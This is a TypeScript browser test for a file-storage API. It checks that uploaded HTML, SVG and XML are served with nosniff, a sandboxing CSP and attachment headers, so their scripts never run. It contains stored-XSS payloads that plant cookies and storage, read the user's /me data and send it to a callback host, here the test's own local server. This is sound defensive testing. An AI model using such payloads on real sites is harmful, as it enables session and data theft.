/**
 * Stored HTML, SVG and XML never run as script on the API's origin (DESIGN §6): every route that
 * answers with stored bytes sends nosniff, a sandboxing CSP and, for active types, an attachment
 * — also when inline is asked for. Then the real check: Debian's chromium, signed in by the
 * session cookie, opens each URL, and no script of the files runs (no title, cookie, storage or
 * call back to a server of the test's). A control page serving the same HTML without those
 * headers shows that the browser does run such a script and that the test would see it.
 */
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser, type Download, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { useTestServer } from './fixtures/server.js';
import { upload } from './fixtures/transfer.js';

type Json = Record<string, any>;
const CHROMIUM_ARGS = ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--disable-sync', '--no-first-run'];

/** What a hostile file's script would do with the signed-in user's session: mark the page, plant a
 *  cookie and storage, read /me and send it away. */
function payload(callback: string, tag: string): string {
  return `document.title='ran';document.cookie='pwned=${tag}; path=/';try{localStorage.setItem('pwned','${tag}')}catch(e){}
fetch('/api/v1/me').then(function(r){return r.text()}).then(function(t){fetch('${callback}/hit/${tag}?me='+encodeURIComponent(t))}).catch(function(){});
new Image().src='${callback}/hit/${tag}-img';`;
}

function evilFiles(callback: string): Record<string, string> {
  return {
    'evil.html': `<!doctype html><html><head><title>clean</title></head><body><h1>hello</h1><script>${payload(callback, 'html')}</script><img src="${callback}/hit/html-tag" onerror="document.title='ran'"></body></html>`,
    'evil.svg': `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="document.title='ran'"><script>${payload(callback, 'svg')}</script><image href="${callback}/hit/svg-tag"/></svg>`,
    'evil.xml': `<?xml version="1.0"?><root><html:script xmlns:html="http://www.w3.org/1999/xhtml">${payload(callback, 'xml')}</html:script><html:img xmlns:html="http://www.w3.org/1999/xhtml" src="${callback}/hit/xml-tag"/></root>`,
    // HTML under an inert name: served as image/png with nosniff, so never rendered as HTML.
    'evil.png': `<!doctype html><html><body><script>${payload(callback, 'png')}</script></body></html>`,
  };
}

describe('user content is never run as script on the API origin', () => {
  const srv = useTestServer('postgres');
  /** Requests a script of a stored file made to the test's own server (there must be none). */
  const hits: string[] = [];
  let callbackServer: Server;
  let callback = '';
  let browser: Browser;

  beforeAll(async () => {
    callbackServer = createServer((req: IncomingMessage, res) => {
      if (req.url === '/control.html') {
        // The control: the same kind of file as evil.html, served without any of the protections.
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end(`<!doctype html><title>clean</title><script>document.title='ran';fetch('/hit/control').catch(function(){})</script>`);
        return;
      }
      if (req.url?.startsWith('/hit/')) hits.push(req.url); // not the browser's own /favicon.ico
      res.writeHead(204, { 'access-control-allow-origin': '*' });
      res.end();
    });
    await new Promise<void>((r) => callbackServer.listen(0, '127.0.0.1', () => r()));
    callback = `http://127.0.0.1:${(callbackServer.address() as AddressInfo).port}`;
    browser = await chromium.launch({ executablePath: '/usr/bin/chromium', args: CHROMIUM_ARGS });
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise((r) => callbackServer?.close(r));
  });

  async function store(u: { auth: Record<string, string> }) {
    const out: Record<string, { id: string; firstBlock: string }> = {};
    for (const [name, text] of Object.entries(evilFiles(callback))) {
      const res = await upload(srv.url, u.auth, `/${name}`, Buffer.from(text));
      expect(res.status).toBe(201);
      const { id } = (await res.json()) as { id: string };
      const list = (await (await fetch(`${srv.url}/api/v1/revisions/blocks?path=${encodeURIComponent(`/${name}`)}`, { headers: u.auth })).json()) as Json;
      out[name] = { id, firstBlock: list.blocks[0].hash };
    }
    return out;
  }

  /** Every URL that answers with a stored file's bytes, plain and asking for inline. */
  function urlsOf(name: string, f: { id: string; firstBlock: string }): string[] {
    const p = encodeURIComponent(`/${name}`);
    return [
      `/api/v1/download?path=${p}`,
      `/api/v1/download?path=${p}&inline=1`,
      `/api/v1/download?path=${p}&rev=1&inline=true`,
      `/api/v1/files/${f.id}/content`,
      `/api/v1/files/${f.id}/content?inline=1`,
      `/api/v1/files/${f.id}/content?rev=1&inline=1`,
      `/api/v1/blocks/${f.firstBlock}`,
    ].map((u) => srv.url + u);
  }

  it('answers stored HTML, SVG and XML with nosniff, a sandboxing CSP and as attachments, also when inline is asked for', async () => {
    const u = await srv.user();
    const stored = await store(u);
    for (const name of ['evil.html', 'evil.svg', 'evil.xml']) {
      for (const url of urlsOf(name, stored[name]!)) {
        for (const method of ['GET', 'HEAD']) {
          const res = await fetch(url, { method, headers: u.auth });
          expect(res.status, `${method} ${url}`).toBe(200);
          expect(res.headers.get('x-content-type-options'), url).toBe('nosniff');
          expect(res.headers.get('content-security-policy'), url).toBe("default-src 'none'; sandbox");
          expect(res.headers.get('content-disposition'), url).toMatch(/^attachment; /);
          await res.arrayBuffer();
        }
      }
    }
    const types = async (path: string) => (await fetch(`${srv.url}/api/v1/download?path=${encodeURIComponent(path)}`, { headers: u.auth })).headers.get('content-type');
    expect(await types('/evil.html')).toBe('text/html; charset=utf-8');
    expect(await types('/evil.svg')).toBe('image/svg+xml');
    expect(await types('/evil.xml')).toBe('application/xml');

    // Inert types are shown inline when asked, with the same protections.
    const png = await fetch(`${srv.url}/api/v1/download?path=${encodeURIComponent('/evil.png')}&inline=1`, { headers: u.auth });
    expect(png.headers.get('content-type')).toBe('image/png');
    expect(png.headers.get('content-disposition')).toMatch(/^inline; /);
    expect(png.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(png.headers.get('x-content-type-options')).toBe('nosniff');
    const txt = await upload(srv.url, u.auth, '/notes.txt', Buffer.from('<script>alert(1)</script>'));
    expect(txt.status).toBe(201);
    const shown = await fetch(`${srv.url}/api/v1/download?path=%2Fnotes.txt&inline=1`, { headers: u.auth });
    expect(shown.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(shown.headers.get('content-disposition')).toMatch(/^inline; /);
    const song = await upload(srv.url, u.auth, '/song.mp3', Buffer.from('ID3'));
    expect(song.status).toBe(201);
    const played = await fetch(`${srv.url}/api/v1/download?path=%2Fsong.mp3&inline=1`, { headers: u.auth });
    expect(played.headers.get('content-disposition')).toMatch(/^inline; /);
    // A media document loads its own URL as media: allowed, and still nothing else (no allow-scripts).
    expect(played.headers.get('content-security-policy')).toBe("default-src 'none'; media-src 'self'; sandbox allow-same-origin");
  });

  it('chromium, signed in, opening every URL of the stored files runs none of their scripts', async () => {
    const u = await srv.user();
    const stored = await store(u);
    const context = await browser.newContext({ acceptDownloads: true });
    try {
      // Signed in as a browser is: the session cookie (what a script on this origin would ride on).
      await context.addCookies([{ name: 'coffer_session', value: u.token, url: srv.url, httpOnly: true, sameSite: 'Lax' }]);
      const page = await context.newPage();
      const downloads: Download[] = [];
      page.on('download', (d) => downloads.push(d));

      /** Opens a URL as a user following a link would: answers 'download' or 'page'. */
      async function open(p: Page, url: string): Promise<'download' | 'page'> {
        const before = downloads.length;
        const opened = await p.goto(url).then(
          () => 'page' as const,
          (err: Error) => (/download/i.test(err.message) ? ('download' as const) : Promise.reject(err)),
        );
        if (opened === 'download') {
          await expect.poll(() => downloads.length, { timeout: 10_000 }).toBeGreaterThan(before);
          await downloads.at(-1)!.cancel();
        }
        return opened;
      }

      await page.goto(`${srv.url}/healthz`);
      for (const name of ['evil.html', 'evil.svg', 'evil.xml']) {
        for (const url of urlsOf(name, stored[name]!)) {
          const opened = await open(page, url);
          expect(await page.title(), url).not.toBe('ran');
          expect(opened, url).toBe('download');
        }
      }
      // HTML stored under an inert name opens inline, as an image that does not decode.
      const png = encodeURIComponent('/evil.png');
      for (const url of [`${srv.url}/api/v1/download?path=${png}&inline=1`, `${srv.url}/api/v1/files/${stored['evil.png']!.id}/content?inline=1`]) {
        expect(await open(page, url), url).toBe('page');
        await page.waitForLoadState('load');
        expect(await page.title(), url).not.toBe('ran');
        expect(await page.evaluate('document.contentType')).toBe('image/png');
      }

      // The control, last: the same kind of script does run when nothing stops it, and is seen.
      expect(await open(page, `${callback}/control.html`)).toBe('page');
      await expect.poll(() => hits.includes('/hit/control'), { timeout: 10_000 }).toBe(true);
      expect(await page.title()).toBe('ran');

      // Nothing any stored file's script would have done happened.
      expect(hits.filter((h) => h !== '/hit/control')).toEqual([]);
      expect((await context.cookies()).map((c) => c.name)).toEqual(['coffer_session']);
      await page.goto(`${srv.url}/healthz`);
      expect(await page.evaluate("localStorage.getItem('pwned')")).toBeNull();
    } finally {
      await context.close();
    }
  });
});
